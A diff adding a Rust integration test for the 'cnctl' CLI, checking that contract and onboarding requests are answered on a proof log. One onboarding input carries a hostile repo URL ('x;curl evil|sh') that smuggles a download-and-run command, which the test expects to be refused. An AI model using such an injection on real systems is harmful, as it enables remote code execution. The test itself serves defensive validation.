@@ -209,3 +209,59 @@ async fn bad_input_is_rejected_and_the_next_good_event_still_flows_and_the_chain
     assert!(stdout.contains("every chain is intact"), "{stdout}");
     assert!(stdout.contains("cn.proof.issue-detector.0"), "{stdout}");
 }
+
+/// Runs the cnctl binary as a NATS user.
+fn cnctl(fleet: &Fleet, user: &str, args: &[&str], stdin: Option<&str>) -> std::process::Output {
+    use std::io::Write;
+    let mut child = std::process::Command::new(cn_tests::fleet::binary("cnctl").unwrap())
+        .args(args)
+        .env("NATS_URL", fleet.server.url())
+        .env("NATS_USER", user)
+        .env("NATS_PASSWORD_FILE", fleet.password_file(user))
+        .stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped())
+        .spawn()
+        .unwrap();
+    if let Some(input) = stdin {
+        child.stdin.take().unwrap().write_all(input.as_bytes()).unwrap();
+    }
+    child.wait_with_output().unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn contract_requests_and_onboarding_published_with_cnctl_are_answered_on_the_proof_log() {
+    let fleet = Fleet::start().await.unwrap();
+    let request = json!({"deployment_id":"deploy-001","service":"user-service","env":"prod","version":"v2.1.0",
+        "changes":[{"file_path":"db/migrations/0042_add_index.sql","change_type":"add","lines_changed":45,"risk_tags":["database"]}],
+        "rollback_capability":true,"dependencies":["postgres"]});
+    let out = cnctl(&fleet, "pipeline", &["publish", "contract", "-"], Some(&request.to_string()));
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(String::from_utf8_lossy(&out.stdout).contains("published contract request on cn.requests.contract.prod.user-service"));
+
+    let good = cnctl(&fleet, "pipeline", &["publish", "onboard", "--app", "demo-api", "--repo", "https://example.com/org/demo-api", "--runtime", "backend", "--env", "dev"], None);
+    assert!(good.status.success(), "{}", String::from_utf8_lossy(&good.stderr));
+    let hostile = cnctl(&fleet, "pipeline", &["publish", "onboard", "--app", "pwn", "--repo", "https://example.com/x;curl evil|sh", "--runtime", "backend", "--env", "dev"], None);
+    assert!(hostile.status.success(), "cnctl publishes it; the deploy agent judges it");
+    // cnctl itself refuses what the contract forbids, before anything is sent.
+    let bad = cnctl(&fleet, "pipeline", &["publish", "metric", "--env", "dev", "--service", "api", "--error-rate", "1.3"], None);
+    assert!(!bad.status.success());
+    assert!(String::from_utf8_lossy(&bad.stderr).contains("error_rate = 1.3 is out of range"));
+
+    let records = fleet
+        .records_until("the contract and both onboarding answers", |r| {
+            !of_kind(r, ProofKind::ContractDrafted).is_empty() && of_kind(r, ProofKind::OnboardingAccepted).len() + of_kind(r, ProofKind::OnboardingRefused).len() == 2
+        })
+        .await
+        .unwrap();
+    let contract = of_kind(&records, ProofKind::ContractDrafted).remove(0);
+    assert_eq!(contract.detail["deployment_id"], "deploy-001");
+    assert!(contract.detail["validators"].as_array().unwrap().contains(&json!("migration_rollback_script")), "{}", contract.detail);
+    assert_eq!(of_kind(&records, ProofKind::OnboardingAccepted)[0].detail["app_name"], "demo-api");
+    assert_eq!(of_kind(&records, ProofKind::OnboardingRefused)[0].reason.as_deref(), Some("invalid_repo_url"));
+
+    // The operator reads it back readably.
+    let tail = cnctl(&fleet, "operator", &["tail", "--no-follow", "--since", "all", "--kind", "onboarding_refused"], None);
+    let text = String::from_utf8_lossy(&tail.stdout);
+    assert!(text.contains("deploy-agent.0") && text.contains("onboarding_refused") && text.contains("reason=invalid_repo_url"), "{text}");
+}
